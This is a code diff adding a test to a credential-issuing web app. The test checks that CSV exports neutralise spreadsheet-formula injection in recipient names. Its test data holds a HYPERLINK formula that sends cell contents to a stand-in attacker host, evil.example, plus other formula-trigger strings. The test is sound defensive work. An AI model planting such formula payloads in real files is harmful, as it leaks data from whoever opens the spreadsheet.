@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import { after, before, describe, it } from 'node:test'
+import { parse } from 'csv-parse/sync'
 import { eq } from 'drizzle-orm'
 import { newOrg, uniqueEmail } from '../../../test/support/factories.ts'
 import { startTestApp, type TestApp, textOf } from '../../../test/support/harness.ts'
@@ -208,5 +209,15 @@ describe('issuing an Open Badges 3.0 credential', () => {
     assert.match(csv.body, /^id,url,recipient_name/)
     assert.match(csv.body, /Honest Holder/)
     assert.equal(csv.body.trim().split('\n').length, 2)
+  })
+
+  it('exports recipient names that look like spreadsheet formulas as plain text', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)']
+    for (const recipientName of names) await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail('formula'), recipientName })
+    const client = testApp.client()
+    await client.signIn(ownerLogin.email, ownerLogin.password)
+    const csv = await client.get(`/orgs/${scope.orgId}/credentials/export.csv?search=formula.`)
+    const exported = (parse(csv.body, { columns: true }) as { recipient_name: string }[]).map((row) => row.recipient_name)
+    assert.deepEqual(exported.sort(), names.map((name) => `'${name}`).sort())
   })
 })
